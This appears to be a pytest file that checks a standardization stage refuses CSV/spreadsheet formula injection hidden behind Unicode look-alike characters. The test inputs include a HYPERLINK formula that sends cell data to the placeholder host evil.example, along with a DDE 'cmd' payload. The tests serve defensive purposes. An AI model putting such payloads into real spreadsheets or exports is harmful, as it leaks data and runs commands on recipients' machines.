"""The CSV-formula check judges the text as standardization will write it, after NFKC
(issue 12, finding 4): ``﹦HYPERLINK(…)`` (U+FE66) passed on main and came out as
``=HYPERLINK(…)``."""

from __future__ import annotations

import pytest

from renkei.normalize.errors import StandardizationError
from renkei.stages.standardize.record_common import nfkc_text, refuse_my_numbers

HYPERLINK = 'HYPERLINK("http://evil.example/?x="&A1,"詳細")'


@pytest.mark.parametrize(
    "text",
    [
        "\ufe66" + HYPERLINK,  # SMALL EQUALS SIGN
        "＝" + HYPERLINK,  # FULLWIDTH EQUALS SIGN
        "\u207c" + HYPERLINK,  # SUPERSCRIPT EQUALS SIGN
        "\u200b=" + HYPERLINK,  # behind a zero-width space
        "\u3000＝1+1",  # behind an ideographic space
        "＠SUM(A1:A2)",
        "\ufe6b" + "SUM(A1)",  # SMALL COMMERCIAL AT
        "\ufe62cmd\uff5c' /C calc'!A0",  # SMALL PLUS + FULLWIDTH VERTICAL LINE (DDE)
        "－2+3+cmd﹙1﹚",  # FULLWIDTH HYPHEN-MINUS with SMALL PARENTHESES
    ],
)
def test_a_formula_in_any_width_is_refused(text: str) -> None:
    assert nfkc_text(text) is not None
    with pytest.raises(StandardizationError) as refused:
        refuse_my_numbers({"family_name": text})
    assert "spreadsheet formula" in str(refused.value)
    assert HYPERLINK not in str(refused.value)


@pytest.mark.parametrize("text", ["－5", "ー", "ーさん", "−12.5", "＋81 3 1234 5678", "高橋"])
def test_signed_numbers_and_long_vowels_pass(text: str) -> None:
    refuse_my_numbers({"note": text})
